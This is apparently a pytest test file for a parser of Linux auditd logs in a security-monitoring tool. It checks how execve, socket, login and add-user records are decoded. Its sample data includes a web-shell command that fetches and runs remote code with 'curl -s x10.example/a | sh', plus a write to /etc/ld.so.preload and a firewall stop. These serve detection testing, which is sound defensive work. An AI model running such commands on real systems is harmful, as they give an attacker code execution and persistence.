from __future__ import annotations

import zipfile

import pytest

import corpora
from sources.formats.line_reading import DATA, fed, read
from vedette.sources.formats.auditd import FORMAT

AT = "msg=audit(1700000000.123:7):"


def sample() -> list[bytes]:
    return (DATA / "audit.log").read_bytes().splitlines()


def test_an_execution_is_one_event() -> None:
    event = read(FORMAT, sample()).records[1]
    assert event == {
        "type": "SYSCALL",
        "types": ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"],
        "timestamp": "2023-11-14T22:13:30.120000Z",
        "time": "1700000010.120",
        "serial": 101,
        "arch": "c000003e",
        "syscall": "59",
        "syscall_name": "execve",
        "success": "yes",
        "exit": "0",
        "items": "2",
        "ppid": "1668",
        "pid": "27499",
        "auid": "1000",
        **dict.fromkeys(
            ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"),
            "33",
        ),
        "tty": "(none)",
        "ses": "6",
        "comm": "sh",
        "exe": "/usr/bin/dash",
        "subj": "unconfined",
        "key": "web_shell",
        "ARCH": "x86_64",
        "SYSCALL": "execve",
        "AUID": "vagrant",
        "UID": "www-data",
        "GID": "www-data",
        "argc": "3",
        "a0": "sh",
        "a1": "-c",
        "a2": "cd /tmp; curl -s x10.example/a | sh",
        "argv": ["sh", "-c", "cd /tmp; curl -s x10.example/a | sh"],
        "cmdline": "sh -c cd /tmp; curl -s x10.example/a | sh",
        "syscall_a0": "55e0c22be900",
        "syscall_a1": "55e0c22743f0",
        "syscall_a2": "55e0c218ea80",
        "syscall_a3": "8",
        "cwd": "/var/www/html",
        "item": ["0", "1"],
        "name": ["/bin/sh", "/lib64/ld-linux-x86-64.so.2"],
        "inode": ["1311", "29514"],
        "dev": "08:01",
        "mode": "0100755",
        "ouid": "0",
        "ogid": "0",
        "rdev": "00:00",
        "nametype": ["NORMAL"],
        "cap_fp": "0",
        "cap_fi": "0",
        "cap_fe": "0",
        "cap_fver": "0",
        "cap_frootid": "0",
        "OUID": "root",
        "OGID": "root",
        "proctitle": "sh -c cd /tmp; curl -s x10.example/a | sh",
    }


def test_every_line_of_the_sample_is_in_an_event() -> None:
    outcome = read(FORMAT, sample())
    assert outcome.problems == []
    assert [place for _, place, _, _ in outcome.events] == [
        f"line {line}" for line in (1, 2, 8, 11, 16, 17, 18, 19, 20)
    ]
    raws = [raw for _, _, _, raw in outcome.events]
    assert b"\n".join(raws).split(b"\n") == sample()


def test_system_call_arguments_stay_numbers_without_execve() -> None:
    connect, openat = read(FORMAT, sample()).records[2:4]
    assert (connect["a0"], connect["a1"], connect["syscall_name"]) == ("3", "7ffe1", "connect")
    assert (openat["a0"], openat["syscall_name"]) == ("ffffff9c", "openat")


def test_socket_address_keys_and_names_are_decoded() -> None:
    connect, openat = read(FORMAT, sample()).records[2:4]
    assert connect["key"] == ["net", "auth"]
    assert connect["saddr_family"] == "inet"
    assert (connect["saddr_addr"], connect["saddr_port"]) == ("198.51.100.10", "443")
    assert connect["SADDR"] == "saddr_fam=inet laddr=198.51.100.10 lport=443"
    assert openat["cwd"] == "/home/John Doe"
    assert openat["name"] == ["/etc/", "/etc/ld.so.preload"]
    assert openat["nametype"] == ["PARENT", "CREATE"]
    assert openat["proctitle"] == "tee"


def test_records_of_programs_hold_their_inner_fields() -> None:
    login, command, user, denial, service = read(FORMAT, sample()).records[4:]
    assert (login["op"], login["addr"], login["res"]) == ("login", "203.0.113.7", "success")
    assert (login["UID"], login["ID"]) == ("root", "root")
    assert (command["cmd"], command["cwd"]) == ("ls -la /root", "/home/bob")
    assert (user["type"], user["op"], user["acct"]) == ("ADD_USER", "adding user", "mallory")
    assert (denial["seresult"], denial["seperms"]) == ("denied", ["read", "write"])
    assert (service["type"], service["unit"]) == ("SERVICE_STOP", "ufw")


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("proctitle=617270002D61", {"proctitle": "arp -a"}),
        ("comm=C3A9", {"comm": "é"}),
        ("comm=FF", {"comm": "\ufffd"}),
        ('comm="C3A9"', {"comm": "C3A9"}),  # quoted: not encoded
        ("pid=1234 tty=AB12", {"pid": "1234", "tty": "AB12"}),  # never encoded
        ("comm=ABC", {"comm": "ABC"}),  # odd: no hexadecimal
        ("data=6C730D", {"data": "ls\r"}),
        ("name=(null) inode=1", {"name": "(null)", "inode": "1"}),
        ("key=(null)ARCH=x86_64 SYSCALL=open", {"key": "(null)", "ARCH": "x86_64"}),
        ('res=failedAUID="bob" UID="eve"', {"res": "failed", "AUID": "bob", "UID": "eve"}),
        (
            "login pid=9 old auid=1 new auid=2",
            {"old-auid": "1", "new-auid": "2", "message": "login"},
        ),
        ('op=add rule key="k" list=4', {"op": "add rule", "key": "k", "list": "4"}),
        (
            "type=FAKE types=x serial=9",
            {"_type": "FAKE", "_types": "x", "_serial": "9", "serial": 7},
        ),
        ("a=1 a=2 a=1", {"a": ["1", "2"]}),
        ('comm="open', {"comm": "open"}),
        ("msg='unit=x", {"unit": "x"}),
    ],
)
def test_fields(body: str, expected: dict[str, str]) -> None:
    [record] = fed(FORMAT, f"type=MMAP {AT} {body}").records
    assert expected.items() <= record.items()


def test_old_user_records() -> None:
    line = (
        f'type=USER_AUTH {AT} user pid=25 uid=0 auid=5 msg=\'PAM: authentication acct="root" : '
        'exe="/usr/sbin/sshd" (hostname=h.example, addr=192.0.2.9, terminal=ssh res=failed)\''
    )
    [record] = fed(FORMAT, line).records
    assert record["hostname"] == "h.example"
    assert record["addr"] == "192.0.2.9"
    assert (record["acct"], record["res"]) == ("root", "failed")


@pytest.mark.parametrize(
    ("saddr", "expected"),
    [
        (
            "0A000035000000000000000000000000000000000000000100000000",
            {"saddr_family": "inet6", "saddr_addr": "::1", "saddr_port": "53"},
        ),
        (
            "0A0001BB0000000000000000000000000000FFFFC000020100000000",
            {"saddr_family": "inet6", "saddr_addr": "192.0.2.1", "saddr_port": "443"},
        ),
        ("01002F72756E2F7800", {"saddr_family": "local", "saddr_path": "/run/x"}),
        ("0100007879", {"saddr_family": "local", "saddr_path": "@xy"}),
        ("100000000000000000000000", {"saddr_family": "netlink"}),
        ("00020035C0000201", {"saddr_family": "inet", "saddr_addr": "192.0.2.1"}),  # big-endian
        ("0200", {"saddr_family": "inet"}),
        ("02", {}),
        ("6300", {"saddr_family": "99"}),
    ],
)
def test_socket_addresses(saddr: str, expected: dict[str, str]) -> None:
    [record] = fed(FORMAT, f"type=SOCKADDR {AT} saddr={saddr}").records
    assert record["saddr"] == saddr
    assert expected.items() <= record.items()
    assert ("saddr_addr" in record) == ("saddr_addr" in expected)


def test_long_arguments_are_joined_before_they_are_decoded() -> None:
    # the two bytes of é lie in two parts, and the parts in two records
    [record] = fed(
        FORMAT,
        f"type=SYSCALL {AT} arch=c000003e syscall=59 success=yes a0=1 a1=2 items=0",
        f'type=EXECVE {AT} argc=3 a0="x" a1_len=8 a1[0]=41C3',
        f'type=EXECVE {AT} a1[1]=A942 a2="end"',
        f"type=PROCTITLE {AT} proctitle=78",
    ).records
    assert record["argv"] == ["x", "AéB", "end"]
    assert record["cmdline"] == "x AéB end"
    assert (record["a1"], record["syscall_a1"]) == ("AéB", "2")
    assert "a1_len" not in record


@pytest.mark.parametrize(
    "prefix",
    [
        "Nov 10 08:19:44 host audispd: ",
        "<14>Nov  1 08:19:44 host audisp-syslog[123]: ",
        "2020-11-10T08:19:44.123456+01:00 host tag_audit_log: ",
        "",
    ],
)
def test_prefixes_of_syslog(prefix: str) -> None:
    line = f"{prefix}node=web1 type=USER_END {AT} pid=1 msg='op=PAM:session_close res=success'"
    assert FORMAT.recognises(line.encode())
    [event] = fed(FORMAT, line).events
    assert event[3] == line.encode()
    assert (event[2]["type"], event[2]["node"], event[2]["res"]) == ("USER_END", "web1", "success")


def test_a_forged_record_inside_a_message_is_none() -> None:
    outcome = fed(FORMAT, f'Nov 10 08:19:44 host logger: x audispd: type=EXECVE {AT} a0="x"')
    assert outcome.events == []
    assert [problem.where for problem in outcome.problems] == ["line 1"]


def test_ausearch_output() -> None:
    lines = [
        "----",
        "time->Tue Nov 14 22:13:20 2023",
        f'type=PATH {AT} item=0 name="/a" nametype=NORMAL',
        f"type=SYSCALL {AT} arch=c000003e syscall=2",
        "----",
        "time->Tue Nov 14 22:13:20 2023",
        "type=UNKNOWN[1327] msg=audit(1700000000.123:8): proctitle=6C73",
        "----",
    ]
    assert FORMAT.recognises("\n".join(lines).encode())
    first, second = fed(FORMAT, *lines).records
    assert (first["types"], first["syscall_name"]) == (["PATH", "SYSCALL"], "open")
    assert (second["type"], second["proctitle"]) == ("PROCTITLE", "ls")


def test_kernel_messages_give_types_as_numbers() -> None:
    line = 'type=1400 audit(1700000000.123:7): apparmor="DENIED" operation="open"'
    [record] = fed(FORMAT, line).records
    assert (record["type"], record["apparmor"]) == ("AVC", "DENIED")


def test_recognition_is_strict() -> None:
    assert FORMAT.recognises((DATA / "audit.log").read_bytes())
    for head in (b"", b"\n\n", b"----\n", b"type=x", b'{"type":"SYSCALL"}', b"\x00\xff" * 50):
        assert not FORMAT.recognises(head)


def test_problems_say_what_was_expected() -> None:
    outcome = fed(FORMAT, "", "hello", f"type=TTY {AT} data=6C73", b"type=X " + b"y" * 70_000)
    assert [(problem.where, problem.what) for problem in outcome.problems] == [
        ("line 2", "expected an audit record, `type=NAME msg=audit(SECONDS.MS:SERIAL): ...`"),
        ("line 4", "a record of 70,007 bytes, more than the limit of 65,536"),
    ]
    assert [record["data"] for record in outcome.records] == ["ls"]


def test_a_state_of_something_else_is_refused() -> None:
    for state in ("x", "[]", '{"pending":[0]}', '{"kinds":1,"pending":[],"span":0}'):
        with pytest.raises(ValueError, match="not the state of an audit log's reader"):
            FORMAT.reader(state)


@pytest.mark.corpus
def test_recorded_events() -> None:
    archives = sorted(corpora.otrf().glob("**/linux/**/*.zip"))
    assert archives
    lines: list[bytes] = []
    for archive in archives:
        with zipfile.ZipFile(archive) as opened:
            for name in opened.namelist():
                lines += opened.read(name).splitlines()
    outcome = read(FORMAT, lines)
    assert outcome.problems == []
    titles = [(record["cmdline"], record["proctitle"]) for record in outcome.records]
    assert len(titles) == 3
    assert all(cmdline == title for cmdline, title in titles)
    raws = b"\n".join(raw for _, _, _, raw in outcome.events)
    assert raws.split(b"\n") == lines
